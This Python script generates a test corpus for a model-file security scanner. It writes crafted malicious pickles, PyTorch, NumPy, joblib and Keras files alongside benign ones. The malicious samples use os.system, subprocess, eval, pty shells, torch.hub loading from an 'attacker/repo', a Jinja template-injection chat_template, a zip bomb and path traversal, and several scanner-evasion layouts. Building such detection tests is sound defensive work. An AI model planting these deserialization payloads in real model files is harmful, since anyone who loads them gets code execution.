"""Writes the scanner test corpus with the Python standard library only (pickle, zipfile,
tarfile, struct, gzip, zlib): real pickles, PyTorch zip/legacy layouts, NumPy npy/npz,
joblib-style streams, Keras archives. Usage: python3 make_corpus.py OUT_DIR

Files under OUT/malicious/ must be reported high or critical; files under OUT/benign/ must
have no finding above low. Nothing here is executed on load by the tests: the scanner only
reads bytes.
"""
import collections
import datetime
import gzip
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

OUT = sys.argv[1]
MAL = os.path.join(OUT, 'malicious')
BEN = os.path.join(OUT, 'benign')
os.makedirs(MAL, exist_ok=True)
os.makedirs(BEN, exist_ok=True)


def w(folder, name, data):
    with open(os.path.join(folder, name), 'wb') as f:
        f.write(data)


# ---------- fake modules so the real pickle module emits torch/numpy globals ----------

def fake_module(name):
    parts = name.split('.')
    for i in range(1, len(parts) + 1):
        mod_name = '.'.join(parts[:i])
        if mod_name not in sys.modules:
            m = types.ModuleType(mod_name)
            sys.modules[mod_name] = m
            if i > 1:
                setattr(sys.modules['.'.join(parts[:i - 1])], parts[i - 1], m)
    return sys.modules[name]


def fake_function(module, name):
    mod = fake_module(module)

    def f(*args):
        return None
    f.__module__ = module
    f.__name__ = name
    f.__qualname__ = name
    setattr(mod, name, f)
    return f


def fake_class(module, name):
    mod = fake_module(module)
    cls = type(name, (object,), {'__module__': module})
    cls.__qualname__ = name
    setattr(mod, name, cls)
    return cls


rebuild_tensor_v2 = fake_function('torch._utils', '_rebuild_tensor_v2')
rebuild_parameter = fake_function('torch._utils', '_rebuild_parameter')
FloatStorage = fake_class('torch', 'FloatStorage')
LongStorage = fake_class('torch', 'LongStorage')
np_reconstruct = fake_function('numpy.core.multiarray', '_reconstruct')
np_ndarray = fake_class('numpy', 'ndarray')
np_dtype = fake_class('numpy', 'dtype')
NumpyArrayWrapper = fake_class('joblib.numpy_pickle', 'NumpyArrayWrapper')


class Storage:
    def __init__(self, cls, key, numel):
        self.cls, self.key, self.numel = cls, key, numel


class Tensor:
    def __init__(self, storage, shape):
        self.storage, self.shape = storage, shape

    def __reduce__(self):
        stride = []
        acc = 1
        for d in reversed(self.shape):
            stride.insert(0, acc)
            acc *= d
        return (rebuild_tensor_v2, (self.storage, 0, tuple(self.shape), tuple(stride), False, collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ('storage', obj.cls, obj.key, 'cpu', obj.numel)
        return None


def torch_state_dict_pickle(protocol=2, extra=None):
    s0, s1 = Storage(FloatStorage, '0', 12), Storage(LongStorage, '1', 3)
    sd = collections.OrderedDict()
    sd['layer.weight'] = Tensor(s0, [3, 4])
    sd['layer.bias'] = Tensor(s1, [3])
    if extra is not None:
        sd['extra'] = extra
    buf = io.BytesIO()
    TorchPickler(buf, protocol=protocol).dump(sd)
    return buf.getvalue()


def torch_zip(data_pkl, root='archive', compress=zipfile.ZIP_STORED, extra_entries=()):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', compression=compress) as z:
        z.writestr(f'{root}/data.pkl', data_pkl)
        z.writestr(zipfile.ZipInfo(f'{root}/byteorder'), 'little', compress_type=zipfile.ZIP_STORED)
        z.writestr(zipfile.ZipInfo(f'{root}/data/0'), struct.pack('<12f', *range(12)), compress_type=zipfile.ZIP_STORED)
        z.writestr(zipfile.ZipInfo(f'{root}/data/1'), struct.pack('<3q', 1, 2, 3), compress_type=zipfile.ZIP_STORED)
        z.writestr(zipfile.ZipInfo(f'{root}/version'), '3\n', compress_type=zipfile.ZIP_STORED)
        for name, data in extra_entries:
            z.writestr(name, data)
    return buf.getvalue()


def legacy_torch(main_pickle_bytes):
    out = io.BytesIO()
    pickle.dump(0x1950a86a20f9469cfc6c, out, protocol=2)
    pickle.dump(1001, out, protocol=2)
    pickle.dump({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, out, protocol=2)
    out.write(main_pickle_bytes)
    pickle.dump(['0', '1'], out, protocol=2)
    out.write(struct.pack('<q', 12) + struct.pack('<12f', *range(12)))
    out.write(struct.pack('<q', 3) + struct.pack('<3q', 1, 2, 3))
    return out.getvalue()


def npy(descr, shape, data, version=(1, 0), fortran=False):
    header = "{'descr': %r, 'fortran_order': %s, 'shape': %s, }" % (descr, fortran, repr(tuple(shape)))
    length_bytes = 2 if version[0] == 1 else 4
    total = 6 + 2 + length_bytes + len(header) + 1
    header += ' ' * ((64 - total % 64) % 64) + '\n'
    ln = struct.pack('<H', len(header)) if length_bytes == 2 else struct.pack('<I', len(header))
    return b'\x93NUMPY' + bytes(version) + ln + header.encode('latin1') + data


# ---------- opcode-level pickle crafting ----------

def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b'\x8c' + bytes([len(b)]) + b


def g(mod, name):  # GLOBAL
    return b'c' + mod.encode() + b'\n' + name.encode() + b'\n'


def call1(callable_ops, arg_ops):  # callable, (arg,), REDUCE
    return callable_ops + arg_ops + b'\x85R'


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def dumps_reduce(fn, args, protocol):
    return pickle.dumps(Reduce(fn, args), protocol=protocol)


import subprocess, builtins, runpy, pty, socket, webbrowser, shutil, timeit, code, cProfile, pdb, operator, importlib, platform, functools  # noqa: E401,E402

# 1-6: os.system through __reduce__ in every protocol
for proto in range(0, 6):
    w(MAL, f'os_system_p{proto}.pkl', dumps_reduce(os.system, ('id',), proto))
# 7-19: callable families from the denylist
w(MAL, 'subprocess_popen.pkl', dumps_reduce(subprocess.Popen, (['id'],), 4))
w(MAL, 'subprocess_check_output.pkl', dumps_reduce(subprocess.check_output, (['id'],), 2))
w(MAL, 'builtins_eval.pkl', dumps_reduce(builtins.eval, ("__import__('os').system('id')",), 2))
w(MAL, 'builtins_exec.pkl', dumps_reduce(builtins.exec, ("import os",), 4))
w(MAL, 'builtins_import.pkl', dumps_reduce(builtins.__import__, ('os',), 3))
w(MAL, 'runpy_run_path.pkl', dumps_reduce(runpy.run_path, ('/tmp/x.py',), 4))
w(MAL, 'pty_spawn.pkl', dumps_reduce(pty.spawn, ('/bin/sh',), 2))
w(MAL, 'socket_connection.pkl', dumps_reduce(socket.create_connection, (('127.0.0.1', 9),), 4))
w(MAL, 'webbrowser_open.pkl', dumps_reduce(webbrowser.open, ('http://127.0.0.1/',), 2))
w(MAL, 'shutil_rmtree.pkl', dumps_reduce(shutil.rmtree, ('/tmp/nothing',), 4))
w(MAL, 'timeit_bypass.pkl', dumps_reduce(timeit.timeit, ("__import__('os').system('id')",), 4))
w(MAL, 'code_interact.pkl', dumps_reduce(code.interact, (), 2))
w(MAL, 'cprofile_run.pkl', dumps_reduce(cProfile.run, ("print(1)",), 4))
w(MAL, 'pdb_run.pkl', dumps_reduce(pdb.run, ("print(1)",), 4))
w(MAL, 'operator_attrgetter.pkl', dumps_reduce(operator.attrgetter, ('system',), 4))
w(MAL, 'importlib_import_module.pkl', dumps_reduce(importlib.import_module, ('os',), 4))
w(MAL, 'platform_popen.pkl', b'\x80\x02' + g('platform', 'popen') + b'X\x02\x00\x00\x00id\x85R.')
w(MAL, 'functools_partial_system.pkl', dumps_reduce(functools.partial, (os.system, 'id'), 4))
# hand-written globals: posix/nt, py2 __builtin__, third-party bypass gadgets
w(MAL, 'posix_system_global.pkl', g('posix', 'system') + b"(S'id'\ntR.")
w(MAL, 'nt_system_global.pkl', b'\x80\x02' + g('nt', 'system') + b'U\x02id\x85R.')
w(MAL, 'py2_builtin_eval.pkl', g('__builtin__', 'eval') + b"(S'1+1'\ntR.")
w(MAL, 'numpy_runstring.pkl', b'\x80\x04' + su('numpy.testing._private.utils') + su('runstring') + b'\x93' + su('import os') + b'}\x86R.')
w(MAL, 'torch_hub_load.pkl', b'\x80\x04' + su('torch.hub') + su('load') + b'\x93' + su('attacker/repo') + su('model') + b'\x86R.')
w(MAL, 'stdlib_gadget_doctest.pkl', b'\x80\x04' + su('doctest') + su('debug_script') + b'\x93' + su('print(1)') + b'\x85R.')
w(MAL, 'thirdparty_run_command.pkl', b'\x80\x04' + su('innocent_pkg.helpers') + su('run_command') + b'\x93' + su('id') + b'\x85R.')
# STACK_GLOBAL with names built on the stack through the memo (BINPUT/BINGET, MEMOIZE, LONG_BINPUT)
w(MAL, 'stack_global_memo_binput.pkl',
  b'\x80\x02' + b'X\x02\x00\x00\x00osq\x00' + b'0' + b'X\x06\x00\x00\x00systemq\x01' + b'0' + b'h\x00h\x01\x93' + b'X\x02\x00\x00\x00id\x85R.')
w(MAL, 'stack_global_memoize.pkl',
  b'\x80\x04' + su('subprocess') + b'\x94' + su('getoutput') + b'\x94' + b'00' + b'h\x00h\x01\x93' + su('id') + b'\x85R.')
w(MAL, 'stack_global_long_binput.pkl',
  b'\x80\x04' + su('os') + b'r\x10\x27\x00\x00' + b'0' + su('popen') + b'r\x11\x27\x00\x00' + b'0' + b'j\x10\x27\x00\x00j\x11\x27\x00\x00\x93' + su('id') + b'\x85R.')
w(MAL, 'stack_global_protocol0_strings.pkl', b"S'os'\np0\n0S'system'\np1\n0g0\ng1\n\x93(S'id'\ntR.")
w(MAL, 'stack_global_unicode_v.pkl', b"Vos\nVsystem\n\x93(Vid\ntR.")
# INST, OBJ, NEWOBJ, NEWOBJ_EX
w(MAL, 'inst_opcode.pkl', b"(S'id'\nios\nsystem\n.")
w(MAL, 'obj_opcode.pkl', b"(cos\nsystem\nS'id'\no.")
w(MAL, 'newobj_popen.pkl', b'\x80\x02' + g('subprocess', 'Popen') + b"]X\x02\x00\x00\x00id\x85\x81.")
w(MAL, 'newobj_ex_popen.pkl', b'\x80\x04' + su('subprocess') + su('Popen') + b'\x93' + su('id') + b'\x85}\x92.')
# EXT1/2/4 (extension registry) and BUILD on an imported module
w(MAL, 'ext1.pkl', b'\x80\x02\x82\x01X\x02\x00\x00\x00id\x85R.')
w(MAL, 'ext2.pkl', b'\x80\x02\x83\x01\x02X\x02\x00\x00\x00id\x85R.')
w(MAL, 'ext4.pkl', b'\x80\x02\x84\x01\x02\x03\x04)R.')
w(MAL, 'build_on_global.pkl', b'\x80\x02' + g('collections', 'OrderedDict') + b'N}X\x05\x00\x00\x00items' + g('collections', 'Counter') + b's\x86b.')
# getattr chain: getattr(__import__('os'), 'system')('id') -> dynamic call
w(MAL, 'getattr_chain.pkl', b'\x80\x02' + g('builtins', 'getattr') + g('builtins', '__import__') + b'X\x02\x00\x00\x00os\x85R' + b'X\x06\x00\x00\x00system\x86R' + b'X\x02\x00\x00\x00id\x85R.')
# names computed at load time: STACK_GLOBAL fed by a call result
w(MAL, 'stack_global_unresolved.pkl', b'\x80\x04' + g('collections', 'OrderedDict') + b')R' + su('system') + b'\x93)R.')
# payload hidden after a benign pickle (opcodes after STOP) and after garbage
w(MAL, 'second_pickle_payload.pkl', pickle.dumps({'ok': 1}, protocol=4) + dumps_reduce(os.system, ('id',), 4))
w(MAL, 'payload_then_truncated.pkl', dumps_reduce(os.system, ('id',), 2)[:-1])
w(MAL, 'payload_then_invalid_opcode.pkl', b'\x80\x02' + g('os', 'system') + b'X\x02\x00\x00\x00id\x85R\xff.')
w(MAL, 'disguised_as.safetensors', dumps_reduce(os.system, ('id',), 4))

# containers
evil_state = torch_state_dict_pickle(2, extra=Reduce(os.system, ('id',)))
w(MAL, 'torch_zip_stored.pt', torch_zip(evil_state))
w(MAL, 'torch_zip_deflated.pt', torch_zip(evil_state, compress=zipfile.ZIP_DEFLATED))
w(MAL, 'torch_zip_custom_root.bin', torch_zip(torch_state_dict_pickle(4, extra=Reduce(subprocess.Popen, (['id'],))), root='my_model'))
inner = torch_zip(evil_state)
outer = io.BytesIO()
with zipfile.ZipFile(outer, 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('models/inner.pt', inner)
w(MAL, 'nested_zip.zip', outer.getvalue())
outer2 = io.BytesIO()
with zipfile.ZipFile(outer2, 'w', zipfile.ZIP_STORED) as z:
    z.writestr('level1.zip', outer.getvalue())
w(MAL, 'nested_zip_twice.zip', outer2.getvalue())
trav = io.BytesIO()
with zipfile.ZipFile(trav, 'w') as z:
    z.writestr('../../../../tmp/evil.pkl', pickle.dumps({'a': 1}, protocol=2))
w(MAL, 'zip_path_traversal.zip', trav.getvalue())
bomb = io.BytesIO()
with zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr('zeros.bin', b'\0' * (64 * 1024 * 1024))
w(MAL, 'zip_bomb.zip', bomb.getvalue())
dup = io.BytesIO()
with zipfile.ZipFile(dup, 'w') as z:
    z.writestr('archive/data.pkl', torch_state_dict_pickle(2))
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        z.writestr('archive/data.pkl', evil_state)
w(MAL, 'zip_duplicate_data_pkl.pt', dup.getvalue())
w(MAL, 'legacy_torch_evil.pt', legacy_torch(torch_state_dict_pickle(2, extra=Reduce(os.system, ('id',)))))
tar_buf = io.BytesIO()
with tarfile.open(fileobj=tar_buf, mode='w', format=tarfile.PAX_FORMAT) as t:
    def add(name, data):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    add('sys_info', pickle.dumps({'protocol_version': 1001}, protocol=2))
    add('pickle', dumps_reduce(os.system, ('id',), 2))
    st = io.BytesIO()
    pickle.dump(1, st, protocol=2)
    TorchPickler(st, protocol=2).dump(('0', 'cpu', FloatStorage))
    st.write(struct.pack('<q', 2) + struct.pack('<2f', 1, 2))
    pickle.dump([], st, protocol=2)
    add('storages', st.getvalue())
    add('tensors', pickle.dumps(0, protocol=2))
w(MAL, 'legacy_torch_tar_evil.tar', tar_buf.getvalue())
w(MAL, 'npy_object_dtype.npy', npy('|O', (2,), dumps_reduce(os.system, ('id',), 2)))
npz = io.BytesIO()
with zipfile.ZipFile(npz, 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('ok.npy', npy('<f4', (2,), struct.pack('<2f', 1, 2)))
    z.writestr('evil.npy', npy('|O', (1,), dumps_reduce(subprocess.call, (['id'],), 2)))
w(MAL, 'npz_with_object_array.npz', npz.getvalue())
w(MAL, 'joblib_zlib.joblib', zlib.compress(dumps_reduce(os.system, ('id',), 4)))
w(MAL, 'pickle_gzip.pkl.gz', gzip.compress(dumps_reduce(os.system, ('id',), 4), mtime=0))


def joblib_file(evil):
    body = b'\x80\x04}' + su('weights')
    body += su('joblib.numpy_pickle') + su('NumpyArrayWrapper') + b'\x93)\x81'
    body += b'}(' + su('subclass') + su('numpy') + su('ndarray') + b'\x93'
    body += su('shape') + b'K\x03\x85'
    body += su('order') + su('C')
    body += su('dtype') + su('numpy') + su('dtype') + b'\x93' + su('f8') + b'\x89\x88\x87R'
    body += b'(K\x03' + su('<') + b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb'
    body += su('allow_mmap') + b'\x88' + su('numpy_array_alignment_bytes') + b'K\x10u'
    body += b'b'
    # raw array bytes: padding length byte, padding, 3 float64 (the opcode-like bytes 'c'/'R' inside are data)
    body += b'\x03' + b'\xff' * 3 + struct.pack('<3d', 99.0, 1e300, -0.5)
    body += b's'
    if evil:
        body += su('extra') + g('os', 'system') + su('id') + b'\x85R' + b's'
    return body + b'.'


def keras_archive(layers):
    cfg = {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': layers}, 'registered_name': None}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('metadata.json', json.dumps({'keras_version': '3.4.1', 'date_saved': '2024-07-01@00:00:00'}))
        z.writestr('config.json', json.dumps(cfg))
        z.writestr('model.weights.h5', b'\x89HDF\r\n\x1a\n' + b'\0' * 504)
    return buf.getvalue()


dense = {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'name': 'dense', 'units': 4, 'activation': 'relu',
         'kernel_initializer': {'module': 'keras.initializers', 'class_name': 'GlorotUniform', 'config': {'seed': None}, 'registered_name': None}},
         'registered_name': None, 'build_config': {'input_shape': [None, 8]}}
lam = {'module': 'keras.layers', 'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': {'class_name': '__lambda__', 'config': {'code': '4wEAAAAAAAAA', 'defaults': None, 'closure': None}}}, 'registered_name': None}
w(MAL, 'keras_lambda.keras', keras_archive([dense, lam]))
w(MAL, 'keras_module_injection.keras', keras_archive([dense, {'module': 'subprocess', 'class_name': 'Popen', 'config': {'args': ['id']}, 'registered_name': 'Popen'}]))
w(MAL, 'keras_function_exec.keras', keras_archive([dense, {'module': 'keras.layers', 'class_name': 'Activation', 'config': {'name': 'a', 'activation': {'module': 'builtins', 'class_name': 'function', 'config': 'exec', 'registered_name': 'function'}}, 'registered_name': None}]))
model_config = json.dumps({'class_name': 'Sequential', 'config': {'layers': [{'class_name': 'Dense', 'config': {'units': 2}}, {'class_name': 'Lambda', 'config': {'function': ['4wEAAAAA', None, None], 'function_type': 'lambda'}}]}})
w(MAL, 'keras_lambda.h5', b'\x89HDF\r\n\x1a\n' + b'\0' * 200 + b'model_config\0' + model_config.encode() + b'\0' * 300)
w(MAL, 'tokenizer_config.json', json.dumps({'chat_template': "{{ cycler.__init__.__globals__.os.popen('id').read() }}", 'eos_token': '</s>'}).encode())
w(MAL, 'joblib_inline_array_then_payload.joblib', joblib_file(True))

# ---------------------------------- benign ----------------------------------
w(BEN, 'ordered_dict_p2.pkl', pickle.dumps(collections.OrderedDict([('a', 1), ('b', [1.5, 2.5]), ('c', 'text')]), protocol=2))
w(BEN, 'dict_p4.pkl', pickle.dumps({'epoch': 3, 'lr': 0.001, 'names': ['a', 'b'], 'blob': b'\0' * 10000, 'nested': {'x': (1, 2, 3)}}, protocol=4))
w(BEN, 'dict_p0.pkl', pickle.dumps({'a': 1, 'b': 'two', 'c': [3.0, None, True]}, protocol=0))
w(BEN, 'datetime_namespace_p3.pkl', pickle.dumps({'saved': datetime.datetime(2024, 1, 2, 3, 4, 5), 'args': __import__('argparse').Namespace(lr=0.1, epochs=3)}, protocol=3))
w(BEN, 'torch_state_dict_p2.pkl', torch_state_dict_pickle(2))
w(BEN, 'torch_state_dict_p5.pkl', torch_state_dict_pickle(5))
w(BEN, 'torch_zip.pt', torch_zip(torch_state_dict_pickle(2)))
w(BEN, 'torch_zip_p4_deflated.pth', torch_zip(torch_state_dict_pickle(4), root='model', compress=zipfile.ZIP_DEFLATED))
w(BEN, 'legacy_torch.pt', legacy_torch(torch_state_dict_pickle(2)))


class NpArray:
    def __reduce__(self):
        return (np_reconstruct, (np_ndarray, (0,), b'b'), (1, (3,), Dtype(), False, struct.pack('<3f', 1, 2, 3)))


class Dtype:
    def __reduce__(self):
        return (np_dtype, ('f4', False, True), (3, '<', None, None, None, -1, -1, 0))


w(BEN, 'numpy_array_pickle.pkl', pickle.dumps({'w': NpArray()}, protocol=2))
w(BEN, 'float32.npy', npy('<f4', (2, 3), struct.pack('<6f', *range(6))))
w(BEN, 'int64_fortran.npy', npy('<i8', (2, 2), struct.pack('<4q', 1, 2, 3, 4), fortran=True))
w(BEN, 'v2_header.npy', npy('<f8', (1,), struct.pack('<d', 1.0), version=(2, 0)))
npz_ok = io.BytesIO()
with zipfile.ZipFile(npz_ok, 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('a.npy', npy('<f4', (4,), struct.pack('<4f', 1, 2, 3, 4)))
    z.writestr('b.npy', npy('|u1', (3,), b'\x01\x02\x03'))
w(BEN, 'arrays.npz', npz_ok.getvalue())
w(BEN, 'model.keras', keras_archive([dense]))
w(BEN, 'config.json', json.dumps({'module': 'keras', 'class_name': 'Sequential', 'config': {'layers': [dense]}, 'registered_name': None}).encode())
w(BEN, 'tokenizer_config.json', json.dumps({'chat_template': "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token }}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}", 'eos_token': '</s>'}).encode())
w(BEN, 'model.h5', b'\x89HDF\r\n\x1a\n' + b'\0' * 200 + b'model_config\0' + json.dumps({'class_name': 'Sequential', 'config': {'layers': [{'class_name': 'Dense', 'config': {'units': 2}}]}}).encode() + b'\0' * 300)
w(BEN, 'joblib_inline_array.joblib', joblib_file(False))
w(BEN, 'state_gzip.pkl.gz', gzip.compress(pickle.dumps({'a': [1, 2, 3]}, protocol=4), mtime=0))
w(BEN, 'state_zlib.joblib', zlib.compress(pickle.dumps({'a': [1, 2, 3]}, protocol=4)))

# legacy torch tar (torch < 0.4 layout) with real storages/tensors records
tar_ok = io.BytesIO()
with tarfile.open(fileobj=tar_ok, mode='w', format=tarfile.PAX_FORMAT) as t:
    def add_ok(name, data):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    add_ok('sys_info', pickle.dumps({'protocol_version': 1001, 'little_endian': True}, protocol=2))
    st = io.BytesIO()
    pickle.dump(2, st, protocol=2)
    TorchPickler(st, protocol=2).dump(('0', 'cpu', FloatStorage))
    st.write(struct.pack('<q', 3) + struct.pack('<3f', 1, 2, 3))
    TorchPickler(st, protocol=2).dump(('1', 'cpu', LongStorage))
    st.write(struct.pack('<q', 2) + struct.pack('<2q', 7, 8))
    pickle.dump([], st, protocol=2)
    add_ok('storages', st.getvalue())
    te = io.BytesIO()
    pickle.dump(1, te, protocol=2)
    pickle.dump(('t0', '0', 'x'), te, protocol=2)
    te.write(struct.pack('<i', 1) + b'\0' * 4 + struct.pack('<q', 3) + struct.pack('<q', 1) + struct.pack('<q', 0))
    add_ok('tensors', te.getvalue())
    add_ok('pickle', pickle.dumps(collections.OrderedDict([('w', 't0')]), protocol=2))
w(BEN, 'legacy_torch.tar', tar_ok.getvalue())
# joblib object array: the nested pickle after the wrapper is scanned
w(MAL, 'joblib_object_array.joblib', (lambda: (
    b'\x80\x04' + su('joblib.numpy_pickle') + su('NumpyArrayWrapper') + b'\x93)\x81'
    + b'}(' + su('shape') + b'K\x01\x85' + su('dtype') + su('numpy') + su('dtype') + b'\x93' + su('O8') + b'\x89\x88\x87R' + su('order') + su('C') + b'ub'
    + dumps_reduce(os.system, ('id',), 2) + b'.'))())
